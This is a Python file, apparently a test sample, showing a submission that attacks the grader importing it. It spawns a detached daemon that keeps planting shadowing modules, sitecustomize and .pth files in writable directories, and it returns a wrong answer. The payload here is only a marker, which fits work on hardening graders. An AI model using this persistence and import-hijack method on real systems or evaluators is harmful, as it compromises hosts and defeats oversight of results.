"""Attack: the judge imports a learner's file, whenever it imports. merge_online_states starts a
double-forked, setsid daemon that keeps re-writing modules named like the judge's lazy imports (plus
sitecustomize, usercustomize and a .pth file under HOME's user site) into every writable place for as long
as it lives, so the files are there whatever the judge imports later; it returns a wrong state."""

import os as _os
import sys as _sys
import time as _time

ZERO = ["merge_online_states", "softmax_fused", "softmax_online"]  # its module-level code: the audit refuses softmax.py
PAYLOAD = "import sys; sys.stderr.write('DRIPSTONE-PAYLOAD-RAN %s\\n' % __name__)\n"
NAMES = ("nvrtc", "colorsys", "difflib", "pdb", "pydoc", "zoneinfo", "uuid", "decimal", "statistics", "csv",
         "sitecustomize", "usercustomize", "numba", "scipy", "psutil")


def _drop_all():
    home = _os.environ.get("HOME") or "/tmp"
    site = _os.path.join(home, ".local", "lib", f"python{_sys.version_info[0]}.{_sys.version_info[1]}",
                         "site-packages")
    places = {_os.environ.get("TMPDIR"), home, _os.getcwd(), "/tmp", "/dev/shm", "/var/tmp", site}
    for place in (p for p in places if p):
        try:
            _os.makedirs(place, exist_ok=True)
            for name in NAMES:
                with open(_os.path.join(place, name + ".py"), "w") as f:
                    f.write(PAYLOAD)
            with open(_os.path.join(place, "dripstone.pth"), "w") as f:
                f.write("import sys; sys.stderr.write('DRIPSTONE-PAYLOAD-RAN pth\\n')\n")
        except OSError:
            pass


def merge_online_states(a, b):
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            end = _time.monotonic() + 600
            while _time.monotonic() < end:
                _drop_all()
                _time.sleep(0.05)
        _os._exit(0)
    _time.sleep(0.2)
    return (0.0, 0.0)
